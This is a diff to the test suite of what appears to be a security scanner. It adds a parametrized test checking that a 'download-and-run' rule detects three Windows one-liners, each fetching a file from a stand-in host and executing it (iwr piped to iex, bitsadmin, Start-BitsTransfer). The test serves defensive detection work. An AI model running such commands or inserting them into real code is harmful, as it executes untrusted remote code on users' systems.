@@ -545,6 +545,22 @@ def test_a_download_piped_into_a_shell_is_found_beside_an_or():
     assert [f.severity for f in of(findings, "code.download-and-run")] == [Severity.HIGH]
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "iwr https://e.example/a.ps1 | iex",
+        "bitsadmin /transfer j https://e.example/a.exe %TEMP%\\\\a.exe && %TEMP%\\\\a.exe",
+        "Start-BitsTransfer https://e.example/a.exe a.exe; ./a.exe",
+    ],
+)
+def test_every_download_tool_the_rule_knows_is_looked_for(command: str):
+    """The tools `download_and_run` names are anchors too: a file holding no other one is
+    still parsed and its command found."""
+    findings = scan({}, {"lib/i.js": f"require('x').run({json.dumps(command)})\n"})
+
+    assert [f.severity for f in of(findings, "code.download-and-run")] == [Severity.HIGH]
+
+
 def test_plain_environment_reads_do_not_make_a_file_parsed():
     from reviews.inspect.rules.prefilter import find_anchors
 
